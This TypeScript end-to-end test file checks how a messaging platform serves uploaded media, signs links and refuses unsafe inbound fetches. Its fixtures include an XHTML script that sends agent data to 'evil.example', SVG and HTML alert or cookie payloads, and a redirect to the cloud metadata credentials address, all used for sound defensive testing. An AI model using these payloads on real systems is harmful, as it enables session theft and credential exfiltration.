import { randomUUID } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { MediaLinkService } from '@parley/domain/services/media-link.service';
import { MessageService } from '@parley/domain/services/message.service';
import { SAMPLE_JPEG, SAMPLE_OGG_OPUS } from '../tools/simulator/samples';
import {
  freshEnvironment,
  startApi,
  startIngest,
  startWorker,
  TestApp,
  TestEnvironment,
} from './support/app';
import {
  createChannel,
  customerWrites,
  signupWorkspace,
  storedMessage,
  Workspace,
} from './support/factories';
import { eventually, Frame, WsClient } from './support/ws';

const XHTML = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body>' +
    '<script>fetch("/api/v1/agents").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>' +
    '</body></html>',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect/></svg>',
);
const HTML = Buffer.from('<!doctype html><html><script>alert(document.cookie)</script></html>');

interface Attachment {
  storage_key: string | null;
  mime: string | null;
  error?: string;
}

/**
 * Media end to end: what Parley serves from its own origin and how (item 5), the signed links
 * that replace `?token=` (item 6), inbound fetches that cannot be pointed anywhere (item 9), and
 * uploads that reach MEDIA_DIR only once the reply may go (item 10).
 */
describe('media', () => {
  let environment: TestEnvironment;
  let api: TestApp;
  let ingest: TestApp;
  let worker: TestApp;
  let ws: Workspace;
  let telegram: { id: string; external_id: string };
  let ig: { igUserId: string; accessToken: string };
  let customer = 8000;
  const sockets: WsClient[] = [];
  const sim = () => environment.simulator;

  beforeAll(async () => {
    // Short enough that a stalled download is cut off well inside a test's wait.
    environment = await freshEnvironment({ MEDIA_FETCH_TIMEOUT_MS: '1500' });
    api = await startApi(environment);
    ingest = await startIngest(environment);
    worker = await startWorker(environment);
    ws = await signupWorkspace(api);
    telegram = (
      await ws.http.post('/api/v1/channels', {
        type: 'telegram',
        name: 'Bot',
        bot_token: sim().newBotToken(),
      })
    ).body;
    ig = sim().newInstagramAccount();
    const created = await ws.http.post('/api/v1/channels', {
      type: 'instagram',
      name: 'IG',
      ig_user_id: ig.igUserId,
      access_token: ig.accessToken,
    });
    expect(created.status).toBe(201);
  });
  afterEach(() => {
    for (const socket of sockets.splice(0)) socket.close();
  });
  afterAll(async () => {
    await worker.close();
    await ingest.close();
    await api.close();
    await environment.close();
  });

  /** A Telegram customer's message; resolves to the stored row once ingest has it. */
  const telegramSays = async (fields: Record<string, unknown>, from = ++customer) => {
    const update = sim().telegramMessage(telegram.external_id, { id: from, first_name: 'Sara' }, fields);
    expect(await sim().postTelegramUpdate(telegram.external_id, update)).toBe(200);
    return stored(`${from}:${update.message.message_id}`);
  };
  /** An Instagram customer's message with these attachments. */
  const instagramSends = async (attachments: { type: string; payload: { url: string } }[]) => {
    const body = sim().instagramMessage(ig.igUserId, `9${++customer}`, { attachments });
    expect(await sim().postInstagramWebhook(body)).toBe(200);
    const mid = (body.entry as { messaging: { message: { mid: string } }[] }[])[0].messaging[0].message.mid;
    return stored(mid);
  };
  const stored = (externalId: string) => storedMessage(api, externalId);
  const attachmentsOf = async (messageId: string): Promise<Attachment[]> =>
    (await api.db.query('SELECT attachments FROM message WHERE id = $1', [messageId]))[0].attachments;
  /** Waits until the media job stored (or gave up on) every attachment of the message. */
  const settled = async (messageId: string, timeoutMs = 10000) => {
    let attachments: Attachment[] = [];
    await eventually(async () => {
      attachments = await attachmentsOf(messageId);
      expect(attachments.every((a) => a.storage_key || a.error)).toBe(true);
    }, timeoutMs);
    return attachments;
  };
  const upload = async (
    conversationId: string,
    file: { kind: string; bytes: Buffer; name: string; type?: string; content?: string },
    token = ws.token,
  ) => {
    const form = new FormData();
    form.append('kind', file.kind);
    if (file.content) form.append('content', file.content);
    form.append('file', new Blob([file.bytes], { type: file.type ?? 'application/octet-stream' }), file.name);
    const res = await fetch(`${api.url}/api/v1/conversations/${conversationId}/attachments`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    return { status: res.status, body: (await res.json()) as Frame };
  };
  const linkTo = async (messageId: string, index = 0, http = ws.http) =>
    http.get(`/api/v1/messages/${messageId}/attachments/${index}/link`);
  /** The attachment by both routes: bearer header, and its signed link with no credentials. */
  const servedBothWays = async (messageId: string, index = 0) => {
    const link = await linkTo(messageId, index);
    expect(link.status).toBe(200);
    return [
      await fetch(`${api.url}/api/v1/messages/${messageId}/attachments/${index}`, {
        headers: { authorization: `Bearer ${ws.token}` },
      }),
      await fetch(`${api.url}${link.body.url}`),
    ];
  };
  const expectSandboxed = (res: Response) => {
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe('sandbox');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  };
  const expectDownloadOnly = (res: Response) => {
    expectSandboxed(res);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
  };
  const telegramConversation = async () => (await telegramSays({ text: 'hello' })).conversation_id;

  describe('what is served from Parley’s origin', () => {
    it('an uploaded XHTML page with a script is an octet-stream attachment, sandboxed, by either route', async () => {
      const conversationId = await telegramConversation();
      const sent = await upload(conversationId, {
        kind: 'file',
        bytes: XHTML,
        name: 'invoice.xhtml',
        type: 'application/xhtml+xml',
      });
      expect(sent.status).toBe(201);
      for (const res of await servedBothWays(sent.body.id)) {
        expectDownloadOnly(res);
        expect(Buffer.from(await res.arrayBuffer()).equals(XHTML)).toBe(true);
      }
    });

    it('a platform’s SVG, and HTML that claims to be an image, are never served inline', async () => {
      const svgId = sim().addTelegramFile(SVG, 'image/svg+xml', 'svg');
      const svg = await telegramSays({
        document: {
          file_id: svgId,
          file_unique_id: 'svg',
          file_name: 'logo.svg',
          mime_type: 'image/svg+xml',
        },
      });
      const fake = await instagramSends([
        sim().instagramAttachment('image', { bytes: HTML, mime: 'image/jpeg' }),
      ]);
      for (const id of [svg.id, fake.id]) {
        expect((await settled(id))[0].storage_key).toBeTruthy();
        for (const res of await servedBothWays(id)) expectDownloadOnly(res);
      }
    });

    it('a JPEG and a voice note are inline with the type their bytes show, and still sandboxed', async () => {
      const conversationId = await telegramConversation();
      const image = await upload(conversationId, { kind: 'image', bytes: SAMPLE_JPEG, name: 'receipt.jpg' });
      const voice = await telegramSays({ ...sim().voiceFields() });
      await settled(voice.id);
      for (const [id, type] of [
        [image.body.id, 'image/jpeg'],
        [voice.id, 'audio/ogg'],
      ]) {
        for (const res of await servedBothWays(id)) {
          expectSandboxed(res);
          expect(res.headers.get('content-type')).toBe(type);
          expect(res.headers.get('content-disposition')).toMatch(/^inline;/);
        }
      }
    });

    it('a filename with quotes, separators and Persian letters is encoded safely', async () => {
      const conversationId = await telegramConversation();
      const name = 'رسید "نهایی"; filename=x.html.pdf';
      const sent = await upload(conversationId, { kind: 'file', bytes: Buffer.from('%PDF-1.7\n'), name });
      expect(sent.status).toBe(201);
      const [res] = await servedBothWays(sent.body.id);
      expectDownloadOnly(res);
      const header = res.headers.get('content-disposition')!;
      const [, ascii, encoded] =
        /^attachment; filename="([^"]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+)$/.exec(header)!;
      expect(ascii).not.toMatch(/[";\\]/);
      expect(sent.body.attachments[0].file_name).toBe(name);
      expect(decodeURIComponent(encoded)).toBe(name);
    });
  });

  describe('media links', () => {
    it('a signed link serves one attachment with no credentials until it expires; a forged one is 404', async () => {
      const conversationId = await telegramConversation();
      const sent = await upload(conversationId, { kind: 'image', bytes: SAMPLE_JPEG, name: 'a.jpg' });
      const before = Date.now();
      const link = await linkTo(sent.body.id);
      expect(link.status).toBe(200);
      expect(link.body.url).toMatch(/^\/api\/v1\/media\/[A-Za-z0-9_-]+$/);
      const expires = Date.parse(link.body.expires_at);
      expect(expires).toBeGreaterThanOrEqual(before + 299_000);
      expect(expires).toBeLessThanOrEqual(Date.now() + 301_000);
      const served = await fetch(`${api.url}${link.body.url}`, { headers: { range: 'bytes=0-9' } });
      expect(served.status).toBe(206);
      expect(Buffer.from(await served.arrayBuffer()).equals(SAMPLE_JPEG.subarray(0, 10))).toBe(true);

      const token = link.body.url.split('/').pop() as string;
      const forged = `${token.slice(0, 20)}${token[20] === 'A' ? 'B' : 'A'}${token.slice(21)}`;
      const expired = api
        .get(MediaLinkService)
        .sign({ workspaceId: ws.workspaceId, messageId: sent.body.id, index: 0 }, Date.now() - 301_000).token;
      for (const bad of [forged, expired, 'not-a-link', ws.token.replace(/\./g, '')]) {
        const res = await fetch(`${api.url}/api/v1/media/${bad}`);
        expect(res.status).toBe(404);
        expect(((await res.json()) as { code: string }).code).toBe('not_found');
        expect(res.headers.get('content-security-policy')).toBe('sandbox');
      }
    });

    it('the access token in a query string is refused on REST: 401 without the Authorization header', async () => {
      const conversationId = await telegramConversation();
      const sent = await upload(conversationId, { kind: 'image', bytes: SAMPLE_JPEG, name: 'a.jpg' });
      const url = `${api.url}/api/v1/messages/${sent.body.id}/attachments/0`;
      expect((await fetch(`${url}?token=${ws.token}`)).status).toBe(401);
      expect((await fetch(`${url}/link?token=${ws.token}`)).status).toBe(401);
      expect((await fetch(`${api.url}/api/v1/conversations?token=${ws.token}`)).status).toBe(401);
      expect((await fetch(url, { headers: { authorization: `Bearer ${ws.token}` } })).status).toBe(200);
    });

    it('another workspace gets no link; a deleted message’s link stops working at once', async () => {
      const conversationId = await telegramConversation();
      const sent = await upload(conversationId, { kind: 'image', bytes: SAMPLE_JPEG, name: 'a.jpg' });
      const other = await signupWorkspace(api);
      expect((await linkTo(sent.body.id, 0, other.http)).status).toBe(404);
      expect((await linkTo(sent.body.id, 1)).status).toBe(404);

      const link = await linkTo(sent.body.id);
      expect((await fetch(`${api.url}${link.body.url}`)).status).toBe(200);
      const chat = await WsClient.connect(api.url, `/ws/chat/${conversationId}/`, { token: ws.token });
      sockets.push(chat);
      await chat.next((f) => f.type === 'recent_messages');
      chat.send({ type: 'delete_message', message_id: sent.body.id });
      await chat.next((f) => f.type === 'message_deleted');
      const gone = await fetch(`${api.url}${link.body.url}`);
      expect(gone.status).toBe(404);
      expect(((await gone.json()) as { code: string }).code).toBe('not_found');
      expect((await linkTo(sent.body.id)).status).toBe(404);
    });
  });

  describe('inbound media fetches', () => {
    const refusals = async (messageId: string) =>
      api.db.query(
        `SELECT detail FROM security_event WHERE kind = 'media_url_refused' AND workspace_id = $1
            AND detail->>'message_id' = $2`,
        [ws.workspaceId, messageId],
      );

    it('an attachment URL off the allowlist is never requested: unavailable with a reason, and a security event', async () => {
      // Served by the simulator, but on the Graph API's origin, not the CDN INSTAGRAM_MEDIA_HOSTS allows.
      const attachment = sim().instagramAttachment('image');
      const offList = attachment.payload.url.replace(sim().cdnUrl, sim().url);
      const message = await instagramSends([{ type: 'image', payload: { url: offList } }]);
      const [settledAttachment] = await settled(message.id);
      expect(settledAttachment.storage_key).toBeNull();
      expect(settledAttachment.error).toMatch(/not an allowed media host/);
      expect(sim().mediaRequestsFor(offList)).toEqual([]);
      expect(await refusals(message.id)).toEqual([
        { detail: expect.objectContaining({ attachment_index: 0, reason: settledAttachment.error }) },
      ]);
    });

    it('an allowed URL redirecting off the allowlist or to the metadata address is refused at that hop', async () => {
      const target = sim().instagramAttachment('image').payload.url.replace(sim().cdnUrl, sim().url);
      const toApiOrigin = sim().instagramAttachment('image', { redirectTo: target });
      const toMetadata = sim().instagramAttachment('image', {
        redirectTo: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      });
      for (const attachment of [toApiOrigin, toMetadata]) {
        const message = await instagramSends([attachment]);
        const [result] = await settled(message.id);
        expect(result.storage_key).toBeNull();
        expect(result.error).toMatch(/not an allowed media host/);
        // Permanent: asked once, never again.
        expect(sim().mediaRequestsFor(attachment.payload.url)).toHaveLength(1);
        expect(await refusals(message.id)).toHaveLength(1);
      }
      expect(sim().mediaRequestsFor(target)).toEqual([]);
    });

    it('the channel’s access token never reaches the CDN, through a redirect or not', async () => {
      const direct = sim().instagramAttachment('image');
      const hop = sim().instagramAttachment('audio');
      const redirected = sim().instagramAttachment('audio', { redirectTo: hop.payload.url });
      const message = await instagramSends([direct, redirected]);
      const results = await settled(message.id);
      expect(results.map((a) => a.mime)).toEqual(['image/jpeg', 'audio/ogg']);
      const requests = [direct, redirected, hop].flatMap((a) => sim().mediaRequestsFor(a.payload.url));
      expect(requests).toHaveLength(3);
      expect(requests.every((r) => r.host === 'cdn' && r.authorization === undefined)).toBe(true);
    });

    it('a download that outlasts MEDIA_FETCH_TIMEOUT_MS is cut off, from Instagram’s CDN and Telegram alike', async () => {
      const stalled = sim().instagramAttachment('image', { stall: true });
      const message = await instagramSends([stalled]);
      const fileId = sim().addTelegramFile(SAMPLE_OGG_OPUS, 'audio/ogg', 'oga', { stall: true });
      const voice = await telegramSays({
        voice: { file_id: fileId, file_unique_id: 'v', duration: 2, mime_type: 'audio/ogg' },
      });
      // Both hosts hold the request open forever; Parley hangs up after the bound (and tries again later).
      await eventually(() => {
        expect(sim().mediaRequestsFor(stalled.payload.url)[0]?.closed).toBe(true);
        expect(sim().mediaRequestsFor(fileId)[0]?.closed).toBe(true);
      }, 15000);
      for (const id of [message.id, voice.id]) expect((await attachmentsOf(id))[0].storage_key).toBeNull();
    }, 30000);
  });

  describe('uploads', () => {
    let own: Workspace;
    let conversationId: string;
    const files = async () =>
      (await readdir(join(api.config.mediaDir, own.workspaceId)).catch(() => [] as string[])).sort();

    beforeAll(async () => {
      own = await signupWorkspace(api);
      const channel = await createChannel(api, own.workspaceId);
      conversationId = (await customerWrites(api, own.workspaceId, channel.id, {})).message.conversation_id;
    });

    it('a reply refused by the rate limit leaves no file in MEDIA_DIR', async () => {
      expect((await own.http.patch('/api/v1/admin/security/policy', { messages_per_minute: 1 })).status).toBe(
        200,
      );
      const first = await own.http.post(`/api/v1/message/conversation/${conversationId}/send-message/`, {
        content: 'first',
        type: 'note',
      });
      expect(first.status).toBe(201);
      const before = await files();
      const refused = await upload(
        conversationId,
        { kind: 'image', bytes: SAMPLE_JPEG, name: 'a.jpg' },
        own.token,
      );
      expect([refused.status, refused.body.code]).toEqual([429, 'rate_limited']);
      expect(await files()).toEqual(before);
      await own.http.patch('/api/v1/admin/security/policy', { messages_per_minute: null });
    });

    it('a reply refused as spam leaves no file in MEDIA_DIR', async () => {
      await own.http.patch('/api/v1/admin/security/policy', { spam: { patterns: ['free\\s+crypto'] } });
      const before = await files();
      const refused = await upload(
        conversationId,
        { kind: 'image', bytes: SAMPLE_JPEG, name: 'a.jpg', content: 'free crypto for everyone' },
        own.token,
      );
      expect([refused.status, refused.body.code]).toEqual([422, 'spam_detected']);
      expect(await files()).toEqual(before);
    });

    it('a file the platform cannot take is refused before it is written', async () => {
      const before = await files();
      const refused = await upload(
        conversationId,
        { kind: 'voice', bytes: SAMPLE_JPEG, name: 'voice.ogg', type: 'audio/ogg' },
        own.token,
      );
      expect([refused.status, refused.body.code]).toEqual([415, 'attachment_invalid']);
      expect(await files()).toEqual(before);
    });

    it('a reply whose transaction fails takes its stored file away again', async () => {
      const before = await files();
      const agent = {
        id: own.adminId,
        workspaceId: own.workspaceId,
        role: 'admin' as const,
        name: 'A',
        email: own.email,
        operator: false,
      };
      await expect(
        api.get(MessageService).reply(own.workspaceId, agent, conversationId, {
          content: '',
          type: 'support',
          replyTo: randomUUID(), // no such message: refused inside the transaction, after the file was written
          uploads: [{ kind: 'image', bytes: SAMPLE_JPEG, fileName: 'a.jpg', duration: null }],
        }),
      ).rejects.toMatchObject({ code: 'not_found' });
      expect(await files()).toEqual(before);
      const accepted = await upload(
        conversationId,
        { kind: 'image', bytes: SAMPLE_JPEG, name: 'a.jpg' },
        own.token,
      );
      expect(accepted.status).toBe(201);
      expect(await files()).toHaveLength(before.length + 1);
    });
  });
});
